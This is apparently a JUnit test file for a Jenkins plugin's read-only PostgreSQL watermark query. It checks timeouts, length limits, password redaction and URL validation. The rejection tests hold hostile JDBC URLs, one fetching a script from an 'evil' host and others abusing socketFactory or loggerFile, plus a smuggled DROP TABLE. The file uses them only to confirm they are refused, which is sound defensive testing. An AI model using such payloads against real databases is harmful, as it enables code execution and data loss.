package io.jenkins.mlops.monitor.trigger.jdbc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.jenkins.mlops.monitor.trigger.DataState;
import io.zonky.test.db.postgres.embedded.EmbeddedPostgres;
import java.io.IOException;
import java.sql.Connection;
import java.sql.Statement;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/** Against a real PostgreSQL. */
class WatermarkQueryTest {
    private static EmbeddedPostgres server;

    @BeforeAll
    static void start() throws Exception {
        try {
            server = EmbeddedPostgres.builder().setServerConfig("fsync", "off").start();
        } catch (IOException | RuntimeException x) {
            Assumptions.abort("PostgreSQL could not be started here: " + x);
        }
        execute("CREATE TABLE events (id SERIAL PRIMARY KEY, at TIMESTAMP NOT NULL)");
    }

    @AfterAll
    static void stop() throws Exception {
        if (server != null) {
            server.close();
        }
    }

    private static void execute(String sql) throws Exception {
        try (Connection connection = server.getPostgresDatabase().getConnection();
                Statement statement = connection.createStatement()) {
            statement.execute(sql);
        }
    }

    private static DataState look(String sql, int seconds) throws IOException {
        return WatermarkQuery.of("jdbc:postgresql://localhost:" + server.getPort() + "/postgres", sql, seconds)
                .look("postgres", "postgres");
    }

    @Test
    void seesNewRows() throws Exception {
        String sql = "SELECT max(at), count(*) FROM events";
        DataState none = look(sql, 10);
        assertThat(none.digest()).isEqualTo("watermark:none");
        assertThat(none.rows()).isZero();
        execute("INSERT INTO events(at) VALUES ('2026-01-31 09:30:00'), ('2026-01-31 09:31:00')");
        DataState two = look(sql, 10);
        assertThat(two.digest()).isEqualTo("watermark:2026-01-31 09:31:00");
        assertThat(two.rows()).isEqualTo(2);
        assertThat(look(sql, 10)).isEqualTo(two);
    }

    @Test
    void onlyReadsAndOnlySoLong() throws Exception {
        assertThatThrownBy(() -> look("INSERT INTO events(at) VALUES (now()) RETURNING id", 10))
                .hasMessageContaining("read-only");
        assertThatThrownBy(() -> look("SELECT nextval('events_id_seq')", 10)).hasMessageContaining("read-only");
        assertThatThrownBy(() -> look("SELECT pg_sleep(60)", 1)).hasMessageContaining("timeout");
        assertThatThrownBy(() -> look("SELECT repeat('x', 2000)", 10)).hasMessageContaining("at most 1000 characters");
        assertThatThrownBy(() -> look("SELECT 1; DROP TABLE events", 10)).hasMessageContaining("without ';'");
    }

    @Test
    void saysWhatTheServerSaidButNoPassword() {
        WatermarkQuery query = WatermarkQuery.of("jdbc:postgresql://localhost:1/postgres", "SELECT 1", 5);
        assertThatThrownBy(() -> query.look("u", "geheim"))
                .hasMessageContaining("localhost:1/postgres failed")
                .hasMessageNotContaining("geheim");
    }

    @Test
    void refusesAddressesThatRunCodeOrReadFiles() {
        for (String url : List.of(
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:h2:tcp://host/x",
                "jdbc:postgresql://h/d?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
                "jdbc:postgresql://h/d?sslmode=require&loggerFile=/etc/x",
                "jdbc:postgresql://h/d?user=x&password=y",
                "jdbc:postgresql://h1,h2/d",
                "jdbc:postgresql:d",
                "jdbc:mysql://h/d",
                "")) {
            assertThatThrownBy(() -> WatermarkQuery.of(url, "SELECT 1", 10))
                    .as(url)
                    .hasMessageContaining("expected jdbc:postgresql");
        }
        assertThatThrownBy(() -> WatermarkQuery.of("jdbc:postgresql://h/d", " ", 10))
                .hasMessageContaining("a query");
        assertThatThrownBy(() -> WatermarkQuery.of("jdbc:postgresql://h/d", "SELECT 1", 0))
                .hasMessageContaining("600 s");
        assertThat(WatermarkQuery.of("jdbc:postgresql://db.example.org:5433/sales?sslmode=verify-full", "SELECT 1", 10)
                        .port())
                .isEqualTo(5433);
    }
}
